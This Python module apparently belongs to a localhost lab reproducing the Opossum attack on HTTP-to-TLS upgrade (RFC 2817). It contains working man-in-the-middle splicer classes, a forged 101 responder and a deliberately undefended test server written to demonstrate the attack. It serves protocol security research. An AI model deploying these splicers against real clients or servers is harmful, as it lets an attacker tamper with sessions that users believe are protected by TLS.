"""The attackers in the middle.

`splicer` is Opossum: it speaks HTTP in clear to the server, gets a 101, and then attaches a victim
that believes it talks implicit TLS. `reverse_splicer` does it the other way round: it answers a
client's probe itself and attaches the client to an implicit-TLS server.
"""

import ssl
import threading

from hop import flow, pass_on, relay
from lab import show
from wire import end_of_stream, reader


class splicer:
    """Listens for victims. `request(host)` is what the attacker says in clear."""

    def __init__(self, lab, server_port, request, make_edit_up=None):
        self.lab = lab
        self.server_port = server_port
        self.request = request
        self.make_edit_up = make_edit_up or (lambda: pass_on)
        self.port = lab.serve(self.take)
        self.splices = []
        lab.reports.append(self.report)

    def take(self, victim):
        """`reply` is the server's answer in clear. The flow holds what went on after it."""
        record = flow()
        record.reply = None
        self.splices.append(record)
        try:
            server = self.lab.connect(self.server_port)
            server.sendall(self.request(f"localhost:{self.port}"))
            upstream = reader(server)
            record.reply = upstream.head()
            if record.reply.status() != 101:
                return
            if upstream.held:
                record.saw("down", upstream.held)
                victim.sendall(upstream.held)
            relay(victim, server, record, self.make_edit_up())
        except end_of_stream:
            pass
        finally:
            record.closed.set()

    def report(self):
        lines = []
        for number, one in enumerate(self.splices, 1):
            answer = show(one.reply.raw) if one.reply else "no answer"
            lines.append(f"--- splicer, victim {number}: the server's answer in clear\n{answer}")
            lines += one.lines("victim", "server")
        return "\n".join(lines)


def options_probe(host):
    return f"OPTIONS * HTTP/1.1\r\nHost: {host}\r\nUpgrade: TLS/1.0\r\nConnection: Upgrade\r\n\r\n".encode()


def probe_for(name):
    """A probe for this host, wherever the attacker listens."""
    return lambda _: options_probe(name)


def get_dog(host):
    return f"GET /dog.html HTTP/1.1\r\nHost: {host}\r\nUpgrade: TLS/1.0\r\nConnection: Upgrade\r\n\r\n".encode()


def accept_offer(offer):
    """The 101 of an attacker: whatever the first token of the offer was."""
    token = offer.get("upgrade").split(",")[0].strip()
    return f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: {token}\r\nConnection: Upgrade\r\n\r\n".encode()


class reverse_splicer:
    """Accepts the client's offer itself, then joins the client to an implicit-TLS server."""

    def __init__(self, lab, server_port):
        self.lab = lab
        self.server_port = server_port
        self.probes = []
        self.flows = []
        self.port = lab.serve(self.take)
        lab.reports.append(self.report)

    def take(self, client):
        record = flow()
        self.flows.append(record)
        probe = reader(client).head()
        self.probes.append(probe)
        client.sendall(accept_offer(probe))
        relay(client, self.lab.connect(self.server_port), record)

    def report(self):
        lines = [f"--- reverse splicer: the probe\n{show(p.raw)}" for p in self.probes]
        for one in self.flows:
            lines += one.lines("client", "server")
        return "\n".join(lines)


class implicit_server:
    """An HTTPS server. It says `early` as soon as TLS is up, then answers each request with its target."""

    def __init__(self, lab, early=b""):
        self.context = server_context(lab)
        self.early = early
        self.handshakes = 0
        self.received = b""
        self.ended = threading.Event()
        self.port = lab.serve(self.take)
        lab.reports.append(self.report)

    def take(self, stream):
        try:
            with self.context.wrap_socket(stream, server_side=True) as secure:
                self.handshakes += 1
                if self.early:
                    secure.sendall(self.early)
                    self.received += secure.recv(65536)
                    return
                http = reader(secure)
                while True:
                    http.more()
                    self.received += http.held
                    request = http.request()
                    secure.sendall(page(request.target()))
        except ssl.SSLError as error:
            self.received += f"[{error}]".encode() if "HTTP_REQUEST" in str(error) else b""
        except end_of_stream:
            pass
        finally:
            self.ended.set()

    def report(self):
        return f"--- implicit server: {self.handshakes} handshakes, received\n{show(self.received)}"


class naive_server:
    """A server that upgrades as RFC 2817 says, without any defence. It shows that the attack works."""

    def __init__(self, lab):
        self.context = server_context(lab)
        self.port = lab.serve(self.take)

    def take(self, stream):
        request = reader(stream).head()
        stream.sendall(accept_offer(request))
        with self.context.wrap_socket(stream, server_side=True) as secure:
            secure.sendall(page(request.target()))
            http = reader(secure)
            try:
                while True:
                    secure.sendall(page(http.request().target()))
            except end_of_stream:
                pass


def server_context(lab):
    """TLS as an HTTPS server has it. No ALPN: the client decides alone."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(lab.certificate.file, lab.certificate.key)
    return context


def page(target):
    body = f"this is {target}\n".encode()
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
